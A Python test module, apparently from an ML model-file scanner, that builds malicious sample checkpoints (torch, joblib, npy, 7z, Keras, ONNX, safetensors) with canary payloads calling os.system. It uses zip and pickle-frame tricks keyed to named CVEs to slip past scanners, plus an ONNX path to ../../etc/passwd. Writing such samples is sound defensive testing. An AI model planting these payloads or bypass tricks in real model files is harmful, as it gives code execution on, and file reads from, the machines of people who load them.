"""Malicious samples that hide the payload inside a container (zip, joblib, 7z, npy, keras...).

The zip tricks follow the published scanner bypasses: duplicate ``data.pkl`` entries (torch
reads the first, ``zipfile`` by name returns the last), CRC mismatches (CVE-2025-10156), a local
header name that differs from the central directory (CVE-2025-1944) and flag bits that make
``zipfile`` refuse a member (CVE-2025-1945). Each writer takes ``(path, canary)``.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from . import torch_tar
from .canary import Canary, Reduce
from .payloads import CODE_EXECUTION, frame_desync, inner_payload

ARCHIVE = "MODEL-ARCHIVE-ANOMALY"


@dataclass(frozen=True)
class ContainerSample:
    """One malicious container file and what the scanner must say about it."""

    name: str
    technique: str
    filename: str
    write: Callable[[Path, Canary], None]
    rules: tuple[str, ...] = CODE_EXECUTION
    severity: str = "critical"
    also_rules: tuple[str, ...] = ()


# -- torch zip layouts ----------------------------------------------------------------------------

def _torch_members() -> list[tuple[str, bytes]]:
    """The members of a real ``torch.save`` zip of a tiny state_dict, in archive order."""
    import torch

    buffer = io.BytesIO()
    torch.save({"weight": torch.arange(4, dtype=torch.float32)}, buffer)
    with zipfile.ZipFile(buffer) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def _write_zip(path: Path, members: list[tuple[str, bytes]]) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # duplicate names are the point
        with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
            for name, data in members:
                archive.writestr(name, data)


def _with_payload(canary: Canary, rename: Callable[[str], str] = lambda n: n
                  ) -> list[tuple[str, bytes]]:
    return [(rename(name), inner_payload(canary) if name.endswith("/data.pkl") else data)
            for name, data in _torch_members()]


def _torch_zip_payload(path: Path, canary: Canary) -> None:
    _write_zip(path, _with_payload(canary))


def _torch_zip_duplicate(path: Path, canary: Canary) -> None:
    members = _torch_members()
    data_name = next(name for name, _ in members if name.endswith("/data.pkl"))
    _write_zip(path, [(data_name, inner_payload(canary)), *members])


def _torch_zip_odd_layout(path: Path, canary: Canary) -> None:
    _write_zip(path, _with_payload(canary, lambda n: "weights/" + n.split("/", 1)[1]))


def _patch_member_headers(path: Path, member_suffix: str,
                          patch: Callable[[bytearray, int, bool], None]) -> None:
    """Apply ``patch(buffer, header_offset, is_central)`` to both headers of a member."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = next(i for i in archive.infolist() if i.filename.endswith(member_suffix))
    patch(data, info.header_offset, False)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_length = struct.unpack_from("<H", data, central + 28)[0]
        name = bytes(data[central + 46: central + 46 + name_length]).decode()
        if name == info.filename:
            patch(data, central, True)
        central = data.find(b"PK\x01\x02", central + 4)
    path.write_bytes(bytes(data))


def _torch_zip_bad_crc(path: Path, canary: Canary) -> None:
    _torch_zip_payload(path, canary)

    def flip_crc(data: bytearray, offset: int, central: bool) -> None:
        crc_at = offset + (16 if central else 14)
        data[crc_at] ^= 0xFF

    _patch_member_headers(path, "/data.pkl", flip_crc)


def _torch_zip_name_mismatch(path: Path, canary: Canary) -> None:
    _torch_zip_payload(path, canary)

    def rename_local(data: bytearray, offset: int, central: bool) -> None:
        if not central:
            name_length = struct.unpack_from("<H", data, offset + 26)[0]
            data[offset + 30 + name_length - 1] = ord("_")  # data.pkl -> data.pk_

    _patch_member_headers(path, "/data.pkl", rename_local)


def _torch_zip_encrypted_flag(path: Path, canary: Canary) -> None:
    _torch_zip_payload(path, canary)

    def set_encrypted(data: bytearray, offset: int, central: bool) -> None:
        flags_at = offset + (8 if central else 6)
        flags = struct.unpack_from("<H", data, flags_at)[0]
        struct.pack_into("<H", data, flags_at, flags | 0x1)

    _patch_member_headers(path, "/data.pkl", set_encrypted)


def _torch_zip_frame_desync(path: Path, canary: Canary) -> None:
    """torch.load unpickles data.pkl from a BytesIO: the file-object reading runs the call."""
    hidden = b"0" + inner_payload(canary)[2:]
    _write_zip(path, [(name, frame_desync(hidden) if name.endswith("/data.pkl") else data)
                      for name, data in _torch_members()])


def _torch_legacy_frame_next_load(path: Path, canary: Canary) -> None:
    """A legacy checkpoint whose magic-number pickle stops inside a long FRAME.

    ``pickle.loads``-style reading sees a genuine checkpoint (magic, protocol, system info, a
    state dict, storage keys, storages) inside the frame. ``torch.load`` reads the file through a
    buffered file object: the frame is longer than its buffer, so it is read whole, and the next
    load (the protocol version) starts after it, where the file holds the attacker's protocol
    version, system info, payload object and storage keys.
    """
    import torch

    buffer = io.BytesIO()
    torch.save({"weight": torch.ones(2)}, buffer, _use_new_zipfile_serialization=False)
    genuine = buffer.getvalue()
    magic_end = 15  # PROTO 2, LONG1 of the 10-byte magic number, STOP
    assert genuine[magic_end - 1:magic_end] == b"."
    pickles = []
    for value in (1001, {"protocol_version": 1001, "little_endian": True,
                         "type_sizes": {"short": 2, "int": 4, "long": 4}}):
        pickles.append(pickle.dumps(value, protocol=2))
    frame = genuine[2:magic_end] + genuine[magic_end:] + b"\x00" * 9000
    hidden = pickles[0] + pickles[1] + inner_payload(canary) + pickle.dumps([], protocol=2)
    path.write_bytes(b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + hidden)


def _torch_legacy(path: Path, canary: Canary) -> None:
    import torch

    state = {"weight": torch.ones(3), "hook": Reduce(os.system, canary.shell)}
    torch.save(state, path, _use_new_zipfile_serialization=False)


# -- joblib, 7z, numpy ----------------------------------------------------------------------------

def _joblib(compress: tuple[str, int] | int) -> Callable[[Path, Canary], None]:
    def write(path: Path, canary: Canary) -> None:
        import joblib
        import numpy as np

        model = {"coef": np.arange(8.0), "hook": Reduce(os.system, canary.shell)}
        joblib.dump(model, path, compress=compress)

    return write


def _seven_zip(path: Path, canary: Canary) -> None:
    import py7zr

    with py7zr.SevenZipFile(path, "w") as archive:
        archive.writestr(inner_payload(canary), "model.pkl")


def _object_npy(path: Path, canary: Canary) -> None:
    import numpy as np

    with path.open("wb") as handle:
        np.save(handle, np.array([1, Reduce(os.system, canary.shell)], dtype=object))


def _npz_member(path: Path, canary: Canary) -> None:
    import numpy as np

    with path.open("wb") as handle:
        np.savez(handle, weights=np.arange(4.0),
                 extra=np.array([Reduce(os.system, canary.shell)], dtype=object))


# -- keras, onnx, safetensors ---------------------------------------------------------------------

def _keras_lambda(path: Path, canary: Canary) -> None:
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    model = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda x: x * 2.0)])
    model.save(path)


def _onnx_external_escape(path: Path, canary: Canary) -> None:
    from onnx import TensorProto, helper

    weight = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[4])
    weight.data_location = TensorProto.EXTERNAL
    for key, value in (("location", "../../etc/passwd"), ("offset", "0"), ("length", "16")):
        entry = weight.external_data.add()
        entry.key, entry.value = key, value
    graph = helper.make_graph(
        [helper.make_node("Add", ["X", "W"], ["Y"])], "escape",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])],
        initializer=[weight],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    path.write_bytes(model.SerializeToString())


def _safetensors_overlap(path: Path, canary: Canary) -> None:
    header = {
        "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
        "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
    }
    encoded = json.dumps(header).encode()
    encoded += b" " * (-len(encoded) % 8)
    path.write_bytes(struct.pack("<Q", len(encoded)) + encoded + bytes(24))


CONTAINERS: list[ContainerSample] = [
    ContainerSample("torch-zip-data-pkl", "payload as data.pkl of a torch zip checkpoint",
                    "model.pt", _torch_zip_payload),
    ContainerSample("torch-zip-duplicate-data-pkl", "two data.pkl entries, malicious one first",
                    "model.pt", _torch_zip_duplicate, also_rules=(ARCHIVE,)),
    ContainerSample("torch-zip-crc-mismatch", "data.pkl CRC wrong (CVE-2025-10156)",
                    "model.pt", _torch_zip_bad_crc, also_rules=(ARCHIVE,)),
    ContainerSample("torch-zip-name-mismatch", "local header name differs (CVE-2025-1944)",
                    "model.pt", _torch_zip_name_mismatch, also_rules=(ARCHIVE,)),
    ContainerSample("torch-zip-encrypted-flag", "encryption flag bit set (CVE-2025-1945)",
                    "model.pt", _torch_zip_encrypted_flag, also_rules=(ARCHIVE,)),
    ContainerSample("torch-zip-odd-layout", "torch zip with other folder, .ckpt extension",
                    "last.ckpt", _torch_zip_odd_layout),
    ContainerSample("torch-zip-frame-desync", "data.pkl string crosses its FRAME end: the "
                    "call runs only as torch.load reads it", "model.pt", _torch_zip_frame_desync),
    ContainerSample("torch-legacy-frame-next-load", "legacy checkpoint: a FRAME hides where "
                    "torch.load's next pickle starts", "legacy_frame.pth",
                    _torch_legacy_frame_next_load),
    ContainerSample("torch-legacy-payload", "legacy (non-zip) torch checkpoint with payload",
                    "legacy.pth", _torch_legacy),
    ContainerSample("torch-tar-object-payload", "legacy tar checkpoint (torch < 0.4): the "
                    "saved object is the payload", "model.tar", torch_tar.write_object_payload),
    ContainerSample("torch-tar-storage-payload", "legacy tar checkpoint: the second storage "
                    "entry, after raw bytes, is the payload", "model.pth",
                    torch_tar.write_storage_payload),
    ContainerSample("torch-tar-tensor-payload", "legacy tar checkpoint: the second tensor "
                    "entry, after a raw shape, is the payload", "model.pt",
                    torch_tar.write_tensor_payload),
    ContainerSample("joblib-zlib-payload", "joblib compressed with zlib hides the pickle",
                    "model.joblib", _joblib(("zlib", 3))),
    ContainerSample("joblib-gzip-payload", "joblib compressed with gzip",
                    "model.joblib.gz", _joblib(("gzip", 3))),
    ContainerSample("joblib-bz2-payload", "joblib compressed with bz2",
                    "model.joblib.bz2", _joblib(("bz2", 3))),
    ContainerSample("joblib-xz-payload", "joblib compressed with xz",
                    "model.joblib.xz", _joblib(("xz", 3))),
    ContainerSample("joblib-lzma-payload", "joblib compressed with lzma (raw .lzma format)",
                    "model.joblib.lzma", _joblib(("lzma", 3))),
    ContainerSample("joblib-lz4-payload", "joblib compressed with lz4",
                    "model.joblib.lz4", _joblib(("lz4", 3))),
    ContainerSample("sevenzip-wrapped-pickle", "pickle inside a 7z archive",
                    "model.7z", _seven_zip),
    ContainerSample("npy-object-array", "object-dtype .npy whose pickle carries the payload",
                    "array.npy", _object_npy, also_rules=("MODEL-NUMPY-OBJECT-ARRAY",)),
    ContainerSample("npz-object-member", "object array member of an .npz",
                    "arrays.npz", _npz_member),
    ContainerSample("keras-lambda-layer", "Keras .keras with a Lambda layer (bytecode)",
                    "model.keras", _keras_lambda, rules=("MODEL-KERAS-LAMBDA",),
                    severity="high"),
    ContainerSample("onnx-external-data-escape", "ONNX external data at ../../etc/passwd",
                    "model.onnx", _onnx_external_escape, rules=("MODEL-ONNX-EXTERNAL-DATA",),
                    severity="high"),
    ContainerSample("safetensors-overlapping-offsets", "two tensors share bytes",
                    "model.safetensors", _safetensors_overlap,
                    rules=("MODEL-SAFETENSORS-INVALID",), severity="medium"),
]
